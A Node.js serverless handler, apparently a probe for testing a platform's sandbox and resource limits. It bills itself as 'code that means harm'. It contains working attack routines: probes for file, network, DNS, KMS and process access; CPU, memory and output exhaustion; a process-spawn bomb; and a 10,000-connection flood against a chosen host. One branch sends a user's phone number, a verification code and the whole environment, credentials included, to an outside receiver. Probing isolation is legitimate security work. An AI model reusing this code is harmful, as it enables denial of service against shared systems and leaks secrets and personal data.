// Code that means harm. event.do says which; what worked is answered as "ok", everything else as an error's code.
const fs = require('node:fs'), net = require('node:net'), dgram = require('node:dgram'), cp = require('node:child_process');
const { kms } = require('./kms.js');

const worker = require('node:crypto').randomUUID();

const within = (ms, what) => Promise.race([what, new Promise((_, no) => setTimeout(() => no({ code: 'SILENCE' }), ms))]);

// connected is a connection that answers something, or is at least not closed at once.
const connected = (port, host) => within(3000, new Promise((ok, no) => {
  const c = net.connect({ port, host }, () => { c.write('GET / HTTP/1.0\r\n\r\n'); setTimeout(() => { c.destroy(); ok(); }, 500); });
  c.on('error', no).on('close', () => no({ code: 'CLOSED' })).on('data', () => { c.destroy(); ok(); });
}));

// ask sends a query of its own making to the name server: a look-up by the library would not send such names.
const ask = (name) => within(3000, new Promise((ok, no) => {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  const query = Buffer.concat([Buffer.from([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
  const s = dgram.createSocket('udp4');
  s.on('error', no).on('message', (m) => { s.close(); m[7] > 0 ? ok([...m.subarray(-4)].join('.')) : no({ code: 'NXDOMAIN' }); });
  s.send(query, 53, '127.0.0.1');
}));

const tries = {
  read: (path) => fs.readFileSync(path),
  list: (path) => fs.readdirSync(path),
  write: (path) => fs.writeFileSync(path, 'x'),
  connect: (to) => { const i = to.lastIndexOf(':'); return connected(Number(to.slice(i + 1)), to.slice(0, i)); },
  fetch: (url) => within(5000, fetch(url)).catch((e) => { throw e.cause ?? e; }),
  named: async (to) => { const i = to.lastIndexOf(':'); return connected(Number(to.slice(i + 1)), await ask(to.slice(0, i))); },
  kms: (call) => { const i = call.indexOf(' '); return kms(call.slice(0, i), JSON.parse(call.slice(i + 1))); },
  signal: (pid) => process.kill(Number(pid), 0),
  run: (path) => within(3000, new Promise((ok, no) => cp.spawn(path, ['-c', 'exit 0']).on('error', no).on('exit', ok))),
  unix: (path) => within(3000, new Promise((ok, no) => net.connect(path, ok).on('error', no))),
};

const limits = {
  spin: () => { for (;;); },
  heap: () => { const a = []; for (;;) a.push({ x: new Array(1000).fill(Math.random()) }); },
  buffers: () => { const a = []; for (let i = 0; i < 64; i++) a.push(Buffer.alloc(64 << 20, 1)); },
  print: () => { const b = Buffer.alloc(1 << 20, 'x\n'); for (let i = 0; i < 1024; i++) fs.writeSync(1, b); },
  bomb: async () => {
    let ran = 0, refused = 0;
    for (let i = 0; i < 200; i++) {
      try { await new Promise((ok, no) => cp.spawn(process.execPath, ['-e', '0']).on('error', no).on('exit', ok)); ran++; } catch { refused++; }
    }
    return { ran, refused };
  },
  flood: async (to) => {
    const i = to.lastIndexOf(':'), open = [];
    let made = 0, failed = 0;
    await Promise.all(Array.from({ length: 10000 }, () => new Promise((done) => {
      const c = net.connect({ port: Number(to.slice(i + 1)), host: to.slice(0, i) }, () => { made++; open.push(c); done(); });
      c.on('error', () => { failed++; done(); });
    })));
    await new Promise((r) => setTimeout(r, 300));
    return { made, failed, left: open.filter((c) => !c.destroyed).length };
  },
};

exports.handler = async (event) => {
  if (event.request) { // as a sender it passes on what it was given, still sealed
    await fetch(process.env.RECEIVER, { method: 'POST', body: JSON.stringify({ to: event.request.userAttributes.phone_number, code: event.request.code, env: process.env }) });
    return;
  }
  if (event.do) return limits[event.do](event.to);
  const out = {};
  for (const attempt of event.tries ?? []) {
    const i = attempt.indexOf(' ');
    try { await tries[attempt.slice(0, i)](attempt.slice(i + 1)); out[attempt] = 'ok'; } catch (e) { out[attempt] = e.code ?? e.name ?? String(e); }
  }
  return { worker, out };
};
